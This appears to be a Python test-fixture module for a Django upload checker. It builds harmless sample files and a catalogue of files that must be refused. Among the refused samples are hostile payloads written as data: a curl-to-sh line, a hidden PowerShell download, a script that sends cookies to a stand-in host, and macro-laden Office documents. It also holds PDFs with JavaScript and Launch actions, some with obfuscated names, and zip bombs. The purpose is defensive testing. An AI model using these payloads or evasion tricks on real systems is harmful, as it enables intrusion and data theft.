"""Small but real files for the upload tests: each accepted type, and a few that must be refused."""

import base64
import functools
import io
import struct
import zipfile
import zlib

from django.core.files.uploadedfile import SimpleUploadedFile


def zip_of(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in members.items():
            # ODF wants its mimetype first and uncompressed.
            archive.writestr(
                name, content, zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED
            )
    return buffer.getvalue()


def _png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00\xff\xff\xff"))
        + chunk(b"IEND", b"")
    )


def tiny_file(kind: str) -> bytes:
    """Small but real files of each accepted type, and a few that must be refused."""
    if kind == "pdf":
        return (
            b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
            b"trailer<</Root 1 0 R>>\n%%EOF\n"
        )
    if kind == "png":
        return _png()
    if kind == "jpeg":  # a 1x1 baseline JPEG
        return base64.b64decode(
            "/9j/4AAQSkZJRgABAQEASABIAAD/2wBDAP//////////////////////////////////////////////////////////////////"
            "////////////////////wgALCAABAAEBAREA/8QAFBABAAAAAAAAAAAAAAAAAAAAAP/aAAgBAQABPxA="
        )
    if kind == "docx":
        return zip_of({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"})
    if kind == "xlsx":
        return zip_of({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"})
    if kind == "odt":
        return zip_of(
            {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<office:document/>"}
        )
    if kind == "txt":
        return "Notes from the SEND review meeting: £2,000 cut.\n".encode()
    if kind == "elf":
        return b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
    if kind == "exe":
        return b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 54 + b"PE\x00\x00"
    if kind == "zip":
        return zip_of({"notes.txt": b"not an office document"})
    raise ValueError(kind)


def upload(name: str, content: bytes, content_type: str = "application/octet-stream") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=content_type)


# --- The catalogue of bad files (tests/evidence/submissions/test_bad_files.py) --------------------

OLE2_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
# The EICAR anti-virus test file, in two pieces so that no scanner quarantines this source file.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

DOCX_TYPES = (
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Override PartName="/word/document.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    b"</Types>"
)
DOCM_TYPES = (
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    b'<Override PartName="/word/document.xml" '
    b'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
    b"</Types>"
)
XLSM_TYPES = (
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Override PartName="/xl/workbook.xml" '
    b'ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>'
    b"</Types>"
)
ODT_MIME = b"application/vnd.oasis.opendocument.text"
VBA_PROJECT = OLE2_MAGIC + b"\x00" * 56 + "VBA".encode("utf-16-le") + b"Attribute VB_Name"


def _ole_package(payload: bytes) -> bytes:
    """An embedded OLE object as Office's packager writes it: a compound file with an Ole10Native
    stream wrapping a file (just enough of the format for the bytes that give it away)."""
    return OLE2_MAGIC + b"\x00" * 56 + "\x01Ole10Native".encode("utf-16-le") + b"\x00" * 64 + payload


def pdf_of(*objects: bytes, trailer: bytes = b"") -> bytes:
    """A PDF with a catalogue (object 1), one empty page tree (2) and ``objects`` from 3 on, with
    a real cross-reference table."""
    body = [b"<</Type/Catalog/Pages 2 0 R" + trailer + b">>", b"<</Type/Pages/Kids[]/Count 0>>", *objects]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, content in enumerate(body, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(body) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(body) + 1, xref)
    return bytes(out)


def pdf_stream(dictionary: bytes, data: bytes) -> bytes:
    return b"<<" + dictionary + b"/Length %d>>\nstream\n" % len(data) + data + b"\nendstream"


def object_stream(*objects: tuple[int, bytes], filters: bytes = b"/Filter/FlateDecode") -> bytes:
    """Objects packed into a compressed object stream (PDF 1.5), where many PDFs keep their objects."""
    header = b" ".join(b"%d %d" % (number, 0) for number, _ in objects) + b" "
    packed = header + b" ".join(content for _, content in objects)
    data = zlib.compress(packed)
    if b"AHx" in filters:
        data = data.hex().encode() + b">"
    return pdf_stream(b"/Type/ObjStm/N %d/First %d" % (len(objects), len(header)) + filters, data)


@functools.cache
def _zip_bomb_docx() -> bytes:
    """A DOCX whose one picture unzips to 260 MB of zeros (about 1 MB as uploaded)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", DOCX_TYPES)
        archive.writestr("word/document.xml", b"<w:document/>")
        with archive.open("word/media/image1.png", "w", force_zip64=True) as picture:
            for _ in range(260):
                picture.write(bytes(1024 * 1024))
    return buffer.getvalue()


def bad_file(kind: str) -> bytes:
    """Files a member must not be able to attach, each for its own reason."""
    builders = {
        "hta": lambda: (
            b'<html><head><hta:application id="app"/></head>'
            b'<body><script>new ActiveXObject("WScript.Shell").Run("calc")</script></body></html>'
        ),
        "cmd": b'@echo off\r\npowershell -nop -w hidden -c "iwr http://example.invalid/x"\r\n',
        "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><circle r="5"/></svg>',
        "html": b"<!DOCTYPE html>\n<html><body><h1>Budget</h1><form action=//example.invalid></form></body></html>",
        "script": b"Meeting notes\n<script>fetch('//example.invalid/?c='+document.cookie)</script>\n",
        "shebang": b"#!/bin/sh\ncurl http://example.invalid/x | sh\n",
        "csv": b'name,amount\n=HYPERLINK("http://example.invalid"),1\n',
        "latin1": "Notes: the caf\xe9 meeting, \xa32,000 cut.\n".encode("latin-1"),
        "docx_vba": lambda: zip_of(
            {
                "[Content_Types].xml": DOCX_TYPES,
                "word/document.xml": b"<w:document/>",
                "word/vbaProject.bin": VBA_PROJECT,
            }
        ),
        "docx_vba_hidden": lambda: zip_of(
            {
                "[Content_Types].xml": DOCX_TYPES,
                "word/document.xml": b"<w:document/>",
                "customXml/VBAPROJECT.BIN": VBA_PROJECT,
            }
        ),
        "docm": lambda: zip_of(
            {
                "[Content_Types].xml": DOCM_TYPES,
                "word/document.xml": b"<w:document/>",
                "word/vbaProject.bin": VBA_PROJECT,
            }
        ),
        "docm_types_only": lambda: zip_of(
            {"[Content_Types].xml": DOCM_TYPES, "word/document.xml": b"<w:document/>"}
        ),
        "xlsm": lambda: zip_of(
            {
                "[Content_Types].xml": XLSM_TYPES,
                "xl/workbook.xml": b"<workbook/>",
                "xl/vbaProject.bin": VBA_PROJECT,
            }
        ),
        "docx_activex": lambda: zip_of(
            {
                "[Content_Types].xml": DOCX_TYPES,
                "word/document.xml": b"<w:document/>",
                "word/activeX/activeX1.xml": b'<ax:ocx ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>',
                "word/activeX/activeX1.bin": OLE2_MAGIC + b"\x00" * 64,
            }
        ),
        "docx_package": lambda: zip_of(
            {
                "[Content_Types].xml": DOCX_TYPES,
                "word/document.xml": b"<w:document/>",
                "word/embeddings/oleObject1.bin": _ole_package(b"invoice.hta\x00" + bad_file("hta")),
            }
        ),
        "docx_exe": lambda: zip_of(
            {
                "[Content_Types].xml": DOCX_TYPES,
                "word/document.xml": b"<w:document/>",
                "word/embeddings/Setup.bin": tiny_file("exe"),
            }
        ),
        "odt_basic": lambda: zip_of(
            {
                "mimetype": ODT_MIME,
                "content.xml": b"<office:document-content/>",
                "Basic/Standard/Module1.xml": b'<script:module script:name="Module1">Sub Main\nShell("calc")\nEnd Sub</script:module>',
            }
        ),
        "odt_event": lambda: zip_of(
            {
                "mimetype": ODT_MIME,
                "content.xml": b"<office:document-content><office:scripts><office:event-listeners>"
                b'<script:event-listener script:event-name="dom:load" '
                b'xlink:href="vnd.sun.star.script:pydoc.py$tempfilepager(1, calc)?language=Python&amp;location=share"/>'
                b"</office:event-listeners></office:scripts></office:document-content>",
            }
        ),
        "zip_bomb_docx": _zip_bomb_docx,
        "doc": lambda: OLE2_MAGIC + b"\x00" * 56 + "WordDocument".encode("utf-16-le") + b"\x00" * 400,
        "docx_password": lambda: (
            OLE2_MAGIC + b"\x00" * 56 + "EncryptedPackage".encode("utf-16-le") + b"\x00" * 400
        ),
        "pdf_javascript": lambda: pdf_of(
            b"<</S/JavaScript/JS(app.alert\\(1\\))>>", trailer=b"/OpenAction 3 0 R"
        ),
        "pdf_hex_escaped": lambda: pdf_of(
            b"<</S/J#61vaScript/J#53 (app.alert\\(1\\))>>", trailer=b"/OpenAction 3 0 R"
        ),
        "pdf_launch": lambda: pdf_of(
            b"<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>", trailer=b"/OpenAction 3 0 R"
        ),
        "pdf_embedded_file": lambda: pdf_of(
            b"<</EmbeddedFiles<</Names[(invoice.hta)4 0 R]>>>>",
            b"<</Type/Filespec/F(invoice.hta)/EF<</F 5 0 R>>>>",
            pdf_stream(b"/Type/EmbeddedFile", bad_file("hta")),
            trailer=b"/Names 3 0 R",
        ),
        "pdf_object_stream_js": lambda: pdf_of(
            object_stream((4, b"<</S/JavaScript/JS 5 0 R>>"), (5, b"(app.alert\\(1\\))")),
            trailer=b"/OpenAction 4 0 R",
        ),
        "pdf_object_stream_hex_js": lambda: pdf_of(
            object_stream(
                (4, b"<</S/J#61v#61Script/JS(app.alert\\(1\\))>>"), filters=b"/Filter[/AHx/Fl#61teDecode]"
            ),
            trailer=b"/OpenAction 4 0 R",
        ),
        "pdf_inflate_bomb": lambda: pdf_of(
            pdf_stream(b"/Filter/FlateDecode", zlib.compress(bytes(80 * 1024 * 1024), 9))
        ),
        "pdf_lzw": lambda: pdf_of(
            pdf_stream(b"/Type/ObjStm/N 1/First 4/Filter/LZWDecode", b"\x80\x0b\x60\x50\x22\x0c\x0c\x85\x01")
        ),
        "pdf_encrypted": lambda: pdf_of(
            b"<</Filter/Standard/V 2/R 3/O<00>/U<00>/P -4>>", trailer=b"/Encrypt 3 0 R"
        ),
        "exe": lambda: tiny_file("exe"),
        "eicar": EICAR,
        "empty": b"",
    }
    builder = builders[kind]
    return builder() if callable(builder) else builder


def good_file(kind: str) -> bytes:
    """Files a member may attach that look a little like bad ones: they must still pass."""
    builders = {
        "pdf_compressed": lambda: pdf_of(
            pdf_stream(
                b"/Filter/FlateDecode",
                zlib.compress(b"BT /F1 12 Tf 72 712 Td (Budget cut: JS and Launch) Tj ET"),
            ),
            trailer=b"/OpenAction[2 0 R/Fit]",
        ),
        "pdf_object_stream": lambda: pdf_of(
            object_stream((4, b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"))
        ),
        "docx_picture": lambda: zip_of(
            {
                "[Content_Types].xml": DOCX_TYPES,
                "word/document.xml": b"<w:document/>",
                "word/media/image1.png": tiny_file("png"),
            }
        ),
        "odt_picture": lambda: zip_of(
            {
                "mimetype": ODT_MIME,
                "content.xml": b"<office:document-content/>",
                "Pictures/1.png": tiny_file("png"),
            }
        ),
        "text_with_angles": lambda: b"Class sizes went from <30 to >35; the SENCO has <b>no</b> time.\n",
    }
    return builders[kind]()
